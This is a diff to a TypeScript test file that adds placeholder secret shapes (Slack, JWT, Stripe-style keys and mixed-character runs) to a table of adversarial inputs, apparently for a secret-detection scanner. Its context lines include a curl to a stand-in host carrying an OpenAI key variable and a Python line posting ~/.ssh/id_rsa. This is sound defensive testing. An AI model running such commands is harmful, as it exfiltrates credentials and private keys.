@@ -176,6 +176,12 @@ const ADVERSARIAL: Record<string, string> = {
   "?k=$OPENAI_API_KEY": big("curl https://x.example/?k=$OPENAI_API_KEY "),
   "requests.post(open(key))": big("requests.post(open('~/.ssh/id_rsa')) "),
   "~/.ss?/id_*": big("@~/.ss?/id_* "),
+  // Session 15: the joined views (concatenated literals, wrapped lines) and the bare-value and prose rules.
+  '"xoxb-…" + "': big('"xoxb-aaaaaaaaaa" + "'),
+  "eyJ….eyJ…. wrapped": big("eyJaaaaaaaaaaaaa.eyJaaaaaaaaa.\n"),
+  "sk_live_… wrapped on + lines": big("sk_live_aaaaaaaaaaaa\n+"),
+  "bare mixed runs": big("Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0Uv1Wx "),
+  "api key Ab1…": big("api key Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9 "),
 };
 // The schema caps a command at 2000 characters and a diff at 32 KB; these go past both.
 const trailOf = (s: string, where: "error" | "command" | "patch" = "error"): Trail => ({
